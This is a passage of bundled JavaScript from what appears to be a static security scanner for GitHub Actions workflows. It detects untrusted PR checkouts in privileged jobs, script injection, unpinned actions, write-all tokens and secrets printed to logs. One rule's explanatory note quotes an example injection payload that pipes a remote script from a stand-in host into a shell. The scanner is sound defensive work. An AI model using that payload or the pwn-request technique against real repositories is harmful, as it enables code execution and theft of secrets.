    pull_request_target: fields('github.event.pull_request.head.repo', 'github.event.pull_request.base.repo', []),
    workflow_run: fields('github.event.workflow_run.head_repository', 'github.event.workflow_run.repository', [
        RUN_EVENT,
    ]),
};
function fields(head, base, runEvent) {
    return {
        'run-event': runEvent,
        'head-name': [`${head}.full_name`],
        'head-id': [`${head}.id`],
        'head-owner': [`${head}.owner.login`],
        'head-fork': [`${head}.fork`],
        'base-name': [...ALWAYS['base-name'], `${base}.full_name`],
        'base-id': [...ALWAYS['base-id'], `${base}.id`],
        'base-owner': [...ALWAYS['base-owner'], `${base}.owner.login`],
    };
}
/**
 * Whether the `if:`s in front of a checkout (its job's and its own; the checkout runs only when both
 * hold) keep it from a fork's head under every privileged trigger of the workflow. When they do
 * not, `notes` says why for each `if:` that was meant as a gate or can never be false, with its line:
 * a PR that breaks a gate is told so on the line it edits.
 */
function checkoutGuard(guards, triggers) {
    const read = guards.flatMap((g) => (g ? [{ ...g, condition: readCondition(g.value) }] : []));
    const gated = triggers.every((t) => read.some(({ condition: c }) => 'expression' in c && isSameRepoGate(c.expression, t)));
    if (gated)
        return { gated, notes: [], lines: [] };
    const noted = read.flatMap(({ owner, line, condition: c }) => {
        if ('alwaysTrue' in c)
            return [
                {
                    line,
                    note: `${owner} \`if:\` (line ${line}) gates nothing: ${c.alwaysTrue} makes it a string template, not an expression, and a non-empty string is true. Write it as one \`\${{ \u2026 }}\` with nothing around it (a \`>-\` or \`|-\` block scalar, not \`>\`).`,
                },
            ];
        if (!('expression' in c) || !meantAsGate(c.expression))
            return [];
        const open = triggers.filter((t) => !isSameRepoGate(c.expression, t));
        const runEvent = excludesOnlyPullRequest(c.expression)
            ? ` A \`github.event.workflow_run.event != 'pull_request'\` branch still admits a fork's runs of \`pull_request_review\` and \`pull_request_review_comment\`: the PR adds a workflow of those events under the triggering workflow's name, and \`workflow_run\` matches it by name.`
            : '';
        const fork = paths(c.expression).some((p) => p.endsWith('.fork'))
            ? ` \`fork == false\` and \`!fork\` are also true once the fork is deleted (the head repository is then null): compare \`head.repo.full_name == github.repository\` instead.`
            : '';
        return [
            {
                line,
                note: `${owner} \`if:\` (line ${line}) checks where the head comes from but lets a fork's head through under \`${open.join('`, `')}\`: some \`||\` branch runs without the same-repository comparison, or the comparison is \`!=\`, a constant the base repository is not held to, or the other event's field.${runEvent}${fork}`,
            },
        ];
    });
    return { gated, notes: noted.map((n) => n.note), lines: noted.map((n) => n.line) };
}
/** Whether `expression` can be true under `trigger` only when the PR's head is the base repository. */
function isSameRepoGate(expression, trigger) {
    return gate(expression, false, FIELDS[trigger]);
}
/** Whether the expression reads the head repository or the triggering run's event: a gate was meant. */
function meantAsGate(expression) {
    const sides = ['head-name', 'head-id', 'head-owner', 'head-fork', 'run-event'];
    const read = Object.values(FIELDS).flatMap((f) => sides.flatMap((side) => f[side]));
    return paths(expression).some((p) => read.includes(p));
}
/** Whether the expression compares the triggering run's event with `!=`: `event != 'pull_request'`. */
function excludesOnlyPullRequest(e) {
    if (e.kind === 'not')
        return excludesOnlyPullRequest(e.operand);
    if (e.kind !== 'binary')
        return false;
    if (e.op === '!=')
        return paths(e).includes(RUN_EVENT);
    return excludesOnlyPullRequest(e.left) || excludesOnlyPullRequest(e.right);
}
/** Every context path the expression reads. */
function paths(e) {
    if (e.kind === 'path')
        return [e.path];
    if (e.kind === 'not')
        return paths(e.operand);
    if (e.kind === 'binary')
        return [...paths(e.left), ...paths(e.right)];
    return e.kind === 'call' ? e.args.flatMap(paths) : [];
}
// `negated`: the expression sits under an odd number of `!`, so `&&` reads as `||` and `==` as `!=`.
function gate(e, negated, f) {
    if (e.kind === 'not')
        return gate(e.operand, !negated, f);
    const op = e.kind === 'binary' ? e.op : undefined;
    if ((op === '||' && !negated) || (op === '&&' && negated)) {
        const { left, right } = e;
        return gate(left, negated, f) && gate(right, negated, f);
    }
    const atoms = conjuncts(e, negated);
    if (atoms.some((a) => atomGate(a.e, a.negated, f)))
        return true;
    // `head.repo.full_name == 'acme/app' && github.repository == 'acme/app'`.
    const heads = atoms.flatMap((a) => constantOf(a.e, a.negated, f['head-name']));
    const bases = atoms.flatMap((a) => constantOf(a.e, a.negated, f['base-name']));
    return heads.some((h) => bases.includes(h));
}
/** The operands of a chain of `&&` (of `||` under `!`), each with its polarity. */
function conjuncts(e, negated) {
    if (e.kind === 'not')
        return conjuncts(e.operand, !negated);
    if (e.kind === 'binary' && e.op === (negated ? '||' : '&&'))
        return [...conjuncts(e.left, negated), ...conjuncts(e.right, negated)];
    return [{ e, negated }];
}
function atomGate(e, negated, f) {
    if (e.kind === 'binary' && (e.op === '||' || e.op === '&&'))
        return gate(e, negated, f);
    if (e.kind !== 'binary' || e.op !== (negated ? '!=' : '=='))
        return false;
    const sides = [side(e.left, f), side(e.right, f)];
    const pair = (a, b) => sides.includes(a) && sides.includes(b);
    if (pair('head-name', 'base-name') || pair('head-id', 'base-id') || pair('head-owner', 'base-owner'))
        return true;
    // `workflow_run.event == 'push'`, either way round.
    const literal = [e.left, e.right].find((x) => x.kind === 'literal');
    if (literal?.kind !== 'literal')
        return false;
    return sides.includes('run-event') && BASE_ONLY_EVENTS.includes(String(literal.value).toLowerCase());
}
function side(e, f) {
    if (e.kind !== 'path')
        return undefined;
    return Object.keys(f).find((s) => f[s].includes(e.path));
}
/** The constant (lower-cased) a field is required to equal by this atom: `field == 'acme/app'`. */
function constantOf(e, negated, names) {
    if (e.kind !== 'binary' || e.op !== (negated ? '!=' : '=='))
        return [];
    const [path, literal] = e.left.kind === 'path' ? [e.left, e.right] : [e.right, e.left];
    if (path.kind !== 'path' || !names.includes(path.path))
        return [];
    return literal.kind === 'literal' && typeof literal.value === 'string' ? [literal.value.toLowerCase()] : [];
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/checks/workflow/script-injection.js


// Context fields outsiders write, after GitHub's list of untrusted input (fields ending in body,
// default_branch, email, head_ref, label, message, name, page_name, ref, title).
// https://docs.github.com/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
// A pull request's base ref and label name a branch of the base repository, which only those with
// write access to it create (navidrome's pipeline in fresh5); the head's come from the fork.
// https://docs.github.com/webhooks/webhook-events-and-payloads#pull_request
// A label's name is the base repository's too: only those with write access create labels and only
// those with triage access apply them, so `github.event.label.name` of a `labeled` event and the
// names in `issue.labels` / `pull_request.labels` are the maintainers' words (longhorn, fresh6).
// https://docs.github.com/issues/using-labels-and-milestones-to-track-work/managing-labels
const UNTRUSTED = /^(github\.head_ref|github\.event\.(?!repository\.|inputs\.|sender\.login$|pull_request\.base\.(ref|label)$|label\.name$|(issue|pull_request)\.labels\b[\w.*[\]'"-]*\.name$)[\w.*[\]'"-]*\.(body|default_branch|email|head_ref|label|message|name|page_name|ref|title|head_branch|display_title))$/;
// An event object pasted whole (`toJSON(github.event.issue)`, `toJSON(github)`) carries every field
// of it, the title and body included; so does one read through an index this reader cannot follow
// (`github.event.issue[\u2026]`, read as `github.event.issue.*`).
const EVENT_OBJECT = /^github(\.event(\.(issue|pull_request(\.head)?|comment|review|discussion|workflow_run|head_commit|commits|pages)(\.\*)?)?)?(\.\*)?$/;
/** Whether the context field `path` (as expression.ts `carriedPaths` reads it) is outsiders' text. */
function untrustedField(path) {
    return (UNTRUSTED.test(path) && !RESTRICTED.test(path)) || EVENT_OBJECT.test(path);
}
// Names GitHub restricts to letters, digits, `.`, `_` and `-`: they cannot carry shell syntax.
const RESTRICTED = /\.(repo|head\.repo|base\.repo)\.(name|full_name)$|\.(owner|user|sender)\.login$/;
// Which events carry a context object, after GitHub's webhook payloads: under any other trigger the
// expression is empty, so nothing anyone writes reaches the script (changedetection.io's
// `github.event.workflow_run.head_branch` under `push` and `release`, its `workflow_run` trigger
// commented out, fresh15). CodeQL's actions/code-injection queries likewise take an event field as a
// source only under the events that have it. A reusable workflow (`workflow_call`) runs with its
// caller's event, and a field not listed here may be anywhere: both keep the finding.
// https://docs.github.com/webhooks/webhook-events-and-payloads
// https://docs.github.com/actions/writing-workflows/choosing-what-your-workflow-does/accessing-contextual-information-about-workflow-runs#github-context
const PULL_REQUEST_EVENTS = [
    'pull_request',
    'pull_request_target',
    'pull_request_review',
    'pull_request_review_comment',
];
const CARRIED_BY = [
    [/^github\.head_ref$/, ['pull_request', 'pull_request_target']],
    [/^github\.event\.pull_request\b/, PULL_REQUEST_EVENTS],
    [/^github\.event\.issue\b/, ['issues', 'issue_comment']],
    [
        /^github\.event\.comment\b/,
        ['issue_comment', 'pull_request_review_comment', 'commit_comment', 'discussion_comment'],
    ],
    [/^github\.event\.review\b/, ['pull_request_review']],
    [/^github\.event\.workflow_run\b/, ['workflow_run']],
    [/^github\.event\.(head_commit|commits)\b/, ['push']],
    [/^github\.event\.discussion\b/, ['discussion', 'discussion_comment']],
    [/^github\.event\.pages\b/, ['gollum']],
];
/**
 * The triggers of the workflow that carry the expression's object: null when it is carried whatever
 * the event (triggers unknown, a reusable workflow, a field not mapped), [] when none does.
 */
function carriers(expression, workflow) {
    const triggers = workflow.triggers;
    if (triggers.length === 0 || triggers.some((t) => t.value === 'workflow_call'))
        return null;
    const events = CARRIED_BY.find(([field]) => field.test(expression))?.[1];
    return events === undefined ? null : triggers.filter((t) => events.includes(t.value));
}
/**
 * An expression only a trigger delivers is reported on that trigger's line as well as on the `run:`
 * line: a PR that adds the trigger to a workflow whose script already pastes the field (planted
 * earlier, dormant under other events) makes it live, and is told so on the line it adds.
 */
function scriptInjection(job, workflow, privileged, rule) {
    const hits = [];
    for (const step of job.steps)
        for (const line of step.run ?? []) {
            const untrusted = pastedFields(line.expressions, step.envValues).flatMap(({ field, via }) => {
                if (!untrustedField(field))
                    return [];
                const by = carriers(field, workflow);
                return by === null || by.length > 0 ? [{ expression: field, via, by: by ?? [] }] : [];
            });
            if (untrusted.length === 0)
                continue;
            const { expression, via, by } = untrusted[0];
            hits.push({
                rule,
                severity: privileged ? 'critical' : 'high',
                lines: [line.line, ...untrusted.flatMap((u) => u.by.map((t) => t.line))],
                detail: injectionDetail(expression, via, privileged, by, line.line),
            });
        }
    return hits;
}
/**
 * The context fields the expressions paste, each as expression.ts `carriedPaths` reads it (any case,
 * index syntax, through `format`, `toJSON` or `||`), and through `env`: `${{ env.TITLE }}` where the
 * step, job or workflow sets `TITLE: ${{ github.event.issue.title }}` pastes the title as surely.
 * Two hops at most, as GitHub allows: a step's `env:` may read the `env` context (the job's and
 * workflow's), a job's or the workflow's may not (https://docs.github.com/actions/reference/workflows-and-actions/contexts#context-availability).
 * `via` is the env the script pastes. Each env is read once per hop (the workflow is the PR's: a
 * web of envs naming each other must not cost more than their text).
 */
function pastedFields(expressions, env) {
    const read = new Map();
    const expand = (fields, hops) => fields.flatMap((f) => {
        const name = /^env\.([\w-]+)$/.exec(f)?.[1];
        return hops > 0 && name !== undefined && env.has(name) ? fieldsOf(name, hops - 1) : [f];
    });
    const fieldsOf = (name, hops) => {
        const key = `${hops}:${name}`;
        let fields = read.get(key);
        if (!fields) {
            const inner = [...env.get(name).value.matchAll(EXPRESSION)].map((m) => m[1].trim());
            fields = [...new Set(expand(inner.flatMap(carriedPaths), hops))];
            read.set(key, fields);
        }
        return fields;
    };
    const out = new Map();
    for (const field of expressions.flatMap(carriedPaths)) {
        const name = /^env\.([\w-]+)$/.exec(field)?.[1];
        const entry = name === undefined ? undefined : env.get(name);
        if (!entry) {
            if (!out.has(field))
                out.set(field, undefined);
        }
        else
            for (const f of fieldsOf(name, 1))
                if (!out.has(f))
                    out.set(f, `env.${entry.name}`);
    }
    return [...out].map(([field, via]) => (via === undefined ? { field } : { field, via }));
}
function injectionDetail(expression, via, privileged, by, line) {
    const name = via ? via.slice('env.'.length) : envName(expression);
    const who = `is written by whoever opens the issue, PR or comment${privileged ? ', and this workflow runs with secrets and a write token' : ''}`;
    const delivered = by.length === 0
        ? ''
        : ` The \`run:\` at line ${line} pastes it; the \`${by.map((t) => t.value).join('`, `')}\` trigger delivers it.`;
    const fix = via
        ? `\`\${{ ${via} }}\` pastes \`\${{ ${expression} }}\` into the script before the shell runs, which ${who}. Use \`"$${name}"\` instead.`
        : `\`\${{ ${expression} }}\` ${who}. Move it to \`env: { ${name}: \${{ ${expression} }} }\` and use \`"$${name}"\`.`;
    return fix + delivered;
}
/** An env name for an expression: `github.event.pull_request.title` \u2192 `PR_TITLE`-like `PULL_REQUEST_TITLE`. */
function envName(expression) {
    const parts = expression
        .replace(/^github\.(event\.)?/, '')
        .split('.')
        .slice(-2);
    return parts
        .join('_')
        .replace(/[^A-Za-z0-9]+/g, '_')
        .toUpperCase();
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/checks/workflow/shell-pipeline.js
/**
 * Where a `run:` command's standard output goes: to the job log, or into a program that keeps it.
 * `echo -n "$COSIGN_PASSWORD" | cosign sign --key \u2026` hands the password to cosign's stdin and prints
 * nothing (sealed-secrets' release, fresh13); `echo "$KEY" | base64` prints the key, transformed, which
 * GitHub's log masking no longer recognises. Read per pipeline: a print stage, then the stages its
 * output flows through.
 */
/** Commands that print (`echo`, `printf`) or copy (`cat`, `tee`) to standard output. */
const PRINT = /^(echo|printf|cat|tee)\b/;
// Filters: they print what they read, transformed or not (`base64`, `tr`, `sed`, `jq`, `xxd`, \u2026), so
// a secret that flows through one is still on its way to the log. Interpreters and `xargs` run code
// that may print what it reads (`| python3 -c 'print(input()[::-1])'`): counted as printing, so a
// pipe into a script the PR writes is never taken for a pipe into a program that keeps the secret.
const FILTER = /^(cat|tee|tac|dd|pv|sponge|base64|base32|basenc|tr|sed|awk|gawk|mawk|cut|head|tail|rev|fold|fmt|xxd|od|hexdump|strings|jq|yq|sort|uniq|grep|egrep|fgrep|iconv|envsubst|column|nl|paste|expand|less|more|openssl\s+(base64|enc)|xargs|sh|bash|zsh|dash|ksh|fish|pwsh|python[\d.]*|node|deno|bun|perl|ruby|php|lua)\b/;
// `gpg --dearmor` turns an armoured key into its binary form on standard output, and `--list-packets`
// dumps what it reads: filters too, unless a file takes the output (argo-helm's chart signing, fresh4).
const GPG_FILTER = /^gpg\b.*\s--(?:dearmou?r|enarmou?r|list-packets)\b/;
// Standard output sent to a file (`> .npmrc`, `>> "$GITHUB_ENV"`): it never reaches the log. `2>` and
// `>&2` are other streams, and `> /dev/stdout` is the log again.
const TO_FILE = /(?<![\d&])>>?\s*(?!&)(?!\/dev\/(?:stdout|stderr|tty)\b)[^\s&|;]/;
// `-o keyring.gpg` / `--output=\u2026` names a file; `-o /dev/stdout` names the log again.
const OUTPUT_FILE = /\s(?:-o|--output)(?:\s+|=)(?!\/dev\/(?:stdout|stderr|tty)\b)[^\s-]/;
/**
 * A stage's command without the prefixes that run another command: `sudo`, `env`, `VAR=value`,
 * `command`, `exec`, `nice`, `nohup`, `timeout 5`, `stdbuf -oL`, `busybox` (`| timeout 5 cat`
 * still copies to the log).
 */
function command(stage) {
    return stage
        .trim()
        .replace(/^(?:(?:sudo|env|command|exec|nice|nohup|busybox|toybox)\s+|(?:timeout|stdbuf)\s+\S+\s+|[A-Za-z_]\w*=\S*\s+)*/, '');
}
/** Whether a stage prints what it reads on standard output (to the log unless sent elsewhere). */
function passesOn(stage) {
    const c = command(stage);
    return FILTER.test(c) || GPG_FILTER.test(c);
}
/** Whether a stage sends its standard output to a file (`> f`; `-o f` of a filter such as gpg). */
function writesFile(stage) {
    return TO_FILE.test(stage) || (!PRINT.test(command(stage)) && OUTPUT_FILE.test(stage));
}
/**
 * Whether what the first of `stages` prints reaches the log: each stage after it either passes its
 * input on (a filter, unless it writes to a file) or keeps it (any other program: `docker login
 * --password-stdin`, `gpg --import`, `cosign sign`, `kubectl apply -f -`).
 */
function reachesLog(stages) {
    return stages.every((stage, i) => (i === 0 || passesOn(stage)) && !writesFile(stage));
}
/**
 * The print commands of a shell command line whose output reaches the log, each as its text: the
 * line split at `&&`, `||` and `;`, each pipeline read from its print stage to its end.
 */
function printsToLog(line) {
    return line.split(/&&|\|\||;/).flatMap((pipeline) => {
        const stages = pipeline.split('|');
        return stages.flatMap((stage, i) => PRINT.test(command(stage)) && reachesLog(stages.slice(i)) ? [stage.trim()] : []);
    });
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/checks/workflow/workflow-check.js






const HARDENING = 'https://docs.github.com/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions';
const workflow_check_rule = (r) => ({
    ...r,
    language: 'github-actions',
    category: 'security',
});
// Critical when a later step may run the checked-out tree, high when all of them only read it
// (CodeQL's actions/untrusted-checkout/critical and /high; poisonable-step.ts decides which).
// https://codeql.github.com/codeql-query-help/actions/actions-untrusted-checkout-critical/
// A checkout that only a same-repository gate (`if:` of the job or of the checkout) lets run is no
// finding, and a broken or leaky gate is named in the body (same-repo-gate.ts).
// A checkout that actions/checkout itself refuses for a fork (its fork guard, actions/checkout#2454,
// in v7 and backported to v2.8.0, v3.7.0, v4.4.0, v5.1.0, v6.1.0 and the moving major tags) is medium,
// not dropped: GitHub Enterprise Server may bundle an older checkout, and the workflow is still
// wrong; `allow-unsafe-pr-checkout: true` keeps the severity (fork-checkout-guard.ts).
const PWN_REQUEST = workflow_check_rule({
    id: 'gha-untrusted-checkout',
    severity: 'critical',
    confidence: 0.9,
    message: '`pull_request_target`/`workflow_run` workflow checks out the PR head in a privileged job',
    note: `These triggers run with the base repository's secrets and a write token. Checking out the pull request's code and then building, testing or running anything from it hands both to whoever opened the PR (a "pwn request"). Run untrusted code under \`pull_request\` instead, or split the work: build in \`pull_request\`, use the result in a separate \`workflow_run\` job that never executes it. See ${HARDENING} and https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/.`,
});
const SCRIPT_INJECTION = workflow_check_rule({
    id: 'gha-script-injection',
    severity: 'high',
    confidence: 0.9,
    message: 'Attacker-controlled `${{ github.event.* }}` expanded inside a `run:` script (script injection)',
    note: `The expression is pasted into the script before the shell runs it, so a PR title, comment or branch name such as \`"; curl evil.sh | sh; "\` becomes code. Pass the value through an environment variable and quote it: \`env: { TITLE: \${{ github.event.pull_request.title }} }\` and \`echo "$TITLE"\`. See ${HARDENING}#understanding-the-risk-of-script-injections.`,
});
const UNPINNED_ACTION = workflow_check_rule({
    id: 'gha-unpinned-action',
    severity: 'medium',
    confidence: 0.85,
    message: 'Third-party action pinned to a movable tag or branch in a privileged workflow',
    note: `A tag such as \`@v2\` or a branch such as \`@main\` can be moved to new code by the action's owner (or whoever compromises it), and this workflow has secrets or a write token to give away. Pin the full commit SHA and keep the version in a comment: \`uses: owner/action@<40-hex sha> # v2.1.0\`. Actions owned by GitHub (\`actions/*\`, \`github/*\`) are not flagged: they come from the platform that already holds the token. See ${HARDENING}#using-third-party-actions.`,
});
const WRITE_ALL = workflow_check_rule({
    id: 'gha-permissions-write-all',
    severity: 'medium',
    confidence: 0.95,
    message: '`permissions: write-all` gives the workflow token every write scope',
    note: `Any step (or compromised action) can then push code, edit releases and change settings. Grant only what the jobs need, e.g. \`permissions: { contents: read, pull-requests: write }\`. See ${HARDENING}#using-secrets and https://docs.github.com/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token.`,
});
const SECRET_IN_LOG = workflow_check_rule({
    id: 'gha-secret-in-log',
    severity: 'medium',
    confidence: 0.8,
    message: 'Secret printed to the job log',
    note: `GitHub masks a secret's exact value in logs, but not a transformed one (base64, JSON, a substring, split lines), and logs of public repositories are public. Do not print secrets; check their presence with \`test -n "$TOKEN"\`, and hand one to a program through its standard input (\`printf '%s' "$TOKEN" | docker login --password-stdin\`). See ${HARDENING}#using-secrets.`,
});
const WORKFLOW_RULES = [PWN_REQUEST, SCRIPT_INJECTION, UNPINNED_ACTION, WRITE_ALL, SECRET_IN_LOG];
// Triggers that run with secrets and a write token on events outsiders can cause.
const PRIVILEGED_TRIGGERS = new Set([
    'pull_request_target',
    'workflow_run',
    'issue_comment',
    'issues',
    'discussion',
    'discussion_comment',
    'pull_request_review',
    'pull_request_review_comment',
]);
// Refs that name the pull request's own code. https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/
const PR_HEAD = /github\.event\.pull_request\.head\.(sha|ref)|github\.head_ref|refs\/pull\/|github\.event\.workflow_run\.head_(sha|branch)|github\.event\.pull_request\.merge_commit_sha/;
const SHA = /^[0-9a-f]{40}$/;
/** The GitHub Actions workflow check: `.github/workflows/*.yml|yaml`. */
const workflowCheck = {
    language: 'github-actions',
    rules: WORKFLOW_RULES,
    covers: (path) => /(^|\/)\.github\/workflows\/[^/]+\.ya?ml$/i.test(path),
    load: loadWorkflowParser,
    run(content) {
        const workflow = parseWorkflow(content);
        if (!workflow)
            return [];
        const triggers = new Set(workflow.triggers.map((t) => t.value));
        const privileged = [...triggers].some((t) => PRIVILEGED_TRIGGERS.has(t));
        return [
            ...writeAll(workflow, content.split('\n')),
            ...workflow.jobs.flatMap((job) => [
                ...untrustedCheckout(workflow, job, triggers),
                ...scriptInjection(job, workflow, privileged, SCRIPT_INJECTION),
                ...unpinned(workflow, job, privileged),
                ...secretsPrinted(job),
            ]),
        ];
    },
};
function writeAll(workflow, source) {
    const all = [workflow.permissions, ...workflow.jobs.map((j) => j.permissions)];
    return all.flatMap((p) => {
        if (p?.value.trim() !== 'write-all')
            return [];
        // `permissions: write-all` on its own line becomes a read-only block the author widens as needed.
        const text = source[p.line - 1] ?? '';
        const own = /^(\s*)permissions:\s*write-all\s*(#.*)?$/.exec(text);
        const suggestion = own ? `${own[1]}permissions:\n${own[1]}  contents: read` : undefined;
        return [
            {
                rule: WRITE_ALL,
                lines: [p.line],
                suggestion,
                detail: 'Start from `contents: read` and add the scopes the jobs need.',
            },
        ];
    });
}
/**
 * The `ref` input of an actions/checkout step that names the pull request's head. Input names are
 * case-insensitive to the runner (`core.getInput` reads `INPUT_REF` for `ref`, `Ref` or `REF`), so a
 * workflow that writes `Ref:` checks out the head as surely; any such input naming it counts.
 */
function checkoutHeadRef(step) {
    if (!step.uses || !/^\s*actions\/checkout@/i.test(step.uses.value))
        return undefined;
    return step.inputs.find((i) => {
        if (i.key.toLowerCase() !== 'ref')
            return false;
        const expressions = [...i.value.matchAll(EXPRESSION)].map((m) => m[1].trim());
        return (PR_HEAD.test(i.value) || pastedFields(expressions, step.envValues).some((f) => PR_HEAD.test(f.field)));
    });
}
function untrustedCheckout(workflow, job, triggers) {
    const privileged = ['pull_request_target', 'workflow_run'].filter((t) => triggers.has(t));
    const trigger = privileged[0];
    if (!trigger)
        return [];
    const hits = [];
    job.steps.forEach((step, index) => {
        const headRef = checkoutHeadRef(step);
        const checksOutHead = headRef ||
            step.run?.some((l) => /\bgh pr checkout\b|git (fetch|checkout)\b.*(pull\/|head_ref|head\.sha|head\.ref)/.test(l.value));
        if (!checksOutHead)
            return;
        const after = job.steps.slice(index + 1);
        // Any later step counts: an action (`docker/build-push-action`, `pre-commit/action`) builds or
        // runs the tree as surely as a script; `poisonable` grades it.
        const later = after.filter((s) => s.run || s.uses);
        if (later.length === 0)
            return;
        // A same-repository gate on the job or on the checkout itself keeps forks' heads out.
        const guard = checkoutGuard([
            job.condition && { owner: "The job's", ...job.condition },
            step.condition && { owner: "The checkout step's", ...step.condition },
        ], privileged);
        if (guard.gated)
            return;
        const triggerLine = workflow.triggers.find((t) => t.value === trigger)?.line;
        const lines = [headRef?.line ?? step.line, ...later.map((s) => s.run?.[0]?.line ?? s.line)];
        // The checkout's own script counts too: `gh pr checkout 1 && make` runs the tree in one step.
        const runsTree = [step, ...after].some(poisonable) || artifactRunElsewhere(workflow, job, after);
        // actions/checkout's own fork guard fails the job first (fork-checkout-guard.ts).
        const fork = step.run ? { kind: 'none' } : forkGuard(step, trigger, triggers);
        hits.push({
            rule: PWN_REQUEST,
            severity: fork.kind === 'refuses' ? 'medium' : runsTree ? 'critical' : 'high',
            lines: [
                ...lines,
                ...(triggerLine === undefined ? [] : [triggerLine]),
                ...guard.lines,
                ...(fork.kind === 'opted-in' ? [fork.line] : []),
            ],
            detail: [
                runsTree
                    ? `Triggered by \`${trigger}\`; job \`${job.id}\` runs ${later.length} step(s) after checking out the PR.`
                    : `Triggered by \`${trigger}\`; the ${later.length} step(s) of job \`${job.id}\` after the checkout only read files, print or comment (no build tool, package manager, script or local action), so the PR's code is not run yet: high, not critical (CodeQL's \`actions/untrusted-checkout/high\`). The PR's files still sit in a job with secrets and a write token: one build step added later, or an artifact of this job that a \`workflow_run\` workflow executes, makes it a pwn request.`,
                ...guard.notes,
                ...forkGuardNote(fork, trigger),
            ].join(' '),
        });
    });
    return hits;
}
/**
 * Whether `after` (the steps after an untrusted checkout) uploads an artifact that another job of
 * the workflow downloads and then may run: the PR's tree carried to a job that executes it.
 */
function artifactRunElsewhere(workflow, job, after) {
    if (!after.some((s) => /^actions\/upload-artifact@/.test(s.uses?.value.trim() ?? '')))
        return false;
    return workflow.jobs.some((other) => {
        if (other === job)
            return false;
        const download = other.steps.findIndex(downloadsArtifact);
        return download >= 0 && other.steps.slice(download + 1).some(poisonable);
    });
}
function unpinned(workflow, job, privileged) {
    const writes = [workflow.permissions, job.permissions].some((p) => p && /write/.test(p.value));
    const secrets = job.steps.some((s) => s.secretEnv.size > 0 || s.secretInputs.size > 0);
    if (!privileged && !writes && !secrets)
        return [];
    return job.steps.flatMap((step) => {
        const uses = step.uses;
        const match = uses && /^([\w.-]+)\/[\w./-]+@(.+)$/.exec(uses.value.trim());
        if (!uses || !match || SHA.test(match[2]) || /^(actions|github)$/i.test(match[1]))
            return [];
        return [
            {
                rule: UNPINNED_ACTION,
                lines: [uses.line],
                detail: `\`${uses.value}\` follows whatever \`${match[2]}\` points to when the workflow runs.`,
            },
        ];
    });
}
function secretsPrinted(job) {
    const hits = [];
    for (const step of job.steps) {
        for (const line of commandLines(step.run ?? [])) {
            // Each print of the line on its own (`echo ok && test -n "$TOKEN"` prints no secret), and only
            // when its output reaches the log: a print piped into a program that keeps it (`| gpg --import`,
            // `| docker login --password-stdin`, `| cosign sign`) prints nothing, GitHub's own advice for
            // docker login. A `set -x` trace of the echo shows the exact value, which GitHub masks as it
            // does a plain `echo "$TOKEN"`; shiori's traced `| docker login --password-stdin` was judged
            // debatable (fresh), so a trace adds no finding.
            const prints = printsToLog(line.value);
            const leaks = prints.some((c) => {
                if (/\$\{\{[^}]*\bsecrets\b/i.test(c))
                    return true;
                const expanded = expandedNames(c);
                return [...step.secretEnv].some((n) => expanded.has(n));
            });
            if (leaks)
                hits.push({ rule: SECRET_IN_LOG, lines: [line.line] });
        }
    }
    return hits;
}
/**
 * A script's commands, a backslash-continued command joined into one at its first line: `echo "$T" |
 * helm registry login ghcr.io \` is followed by `--password-stdin` on the next line (the OpenTelemetry
 * charts' release workflow, fresh7), and the shell reads the two as one pipeline.
 */
function commandLines(lines) {
    const joined = [];
    let open = false;
    for (const line of lines) {
        const last = joined.at(-1);
        if (open && last)
            joined[joined.length - 1] = { ...last, value: `${last.value.replace(/\\\s*$/, '')} ${line.value}` };
        else
            joined.push(line);
        open = /(^|[^\\])\\\s*$/.test(line.value);
    }
    return joined;
}
/**
 * The variables `command` expands as `$NAME` or `${NAME}`, read in one pass. The secret env names
 * come from the PR's workflow file, so they are compared as strings, never compiled: as a regular
 * expression `(a+)+c` backtracks for minutes and `TOKEN(` throws. A key that is not a shell name
 * cannot be expanded, so it never matches.
 */
function expandedNames(command) {
    const names = new Set();
    for (const match of command.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g))
        names.add(match[1]);
    return names;
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/checks/file-checks.js




const FILE_CHECKS = [
    workflowCheck,
    terraformCheck,
    dockerfileCheck,
    providerTokenCheck,
];


/***/ }),

/***/ 71990:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   i: () => (/* binding */ compileCheck)
/* harmony export */ });
/* harmony import */ var _languages_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(21913);
/* harmony import */ var _napi_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(77058);
/**
 * The compile check of one rule for one grammar. ast-grep reports unknown kinds, bad regexes and
 * unknown keys only when a rule is compiled; doing it on an empty file turns a broken rule into an
 * error that names its file, not a per-file failure. The bundled rules are checked once, when the
 * bundle is built (scripts/bundle.mjs, tests/static/built-catalog.test.ts); a rules folder given at
 * runtime is checked for the languages a run parses.
 */


/** Throws `malformed rule file <source>: rule: <id> does not compile for <language>: ...`. */
function compileCheck(rule, language) {
    try {
        (0,_napi_js__WEBPACK_IMPORTED_MODULE_1__/* .napi */ .H)().parse((0,_languages_js__WEBPACK_IMPORTED_MODULE_0__/* .napiLang */ .zG)(language), '').root().findAll(rule.config);
    }
    catch (error) {
        const detail = error instanceof Error ? error.message : String(error);
        throw new Error(`malformed rule file ${rule.source}: rule: ${rule.id} does not compile for ${language}: ${detail}`);
    }
}


/***/ }),

/***/ 56657:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   $G: () => (/* binding */ loadChecksFor),
/* harmony export */   DA: () => (/* binding */ compileStaticRules),
/* harmony export */   mk: () => (/* binding */ rulesForRun)
/* harmony export */ });
/* unused harmony export staticRuleLoads */
/* harmony import */ var _assets_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(11465);
/* harmony import */ var _built_catalog_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(19532);
/* harmony import */ var _checks_file_checks_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(2202);
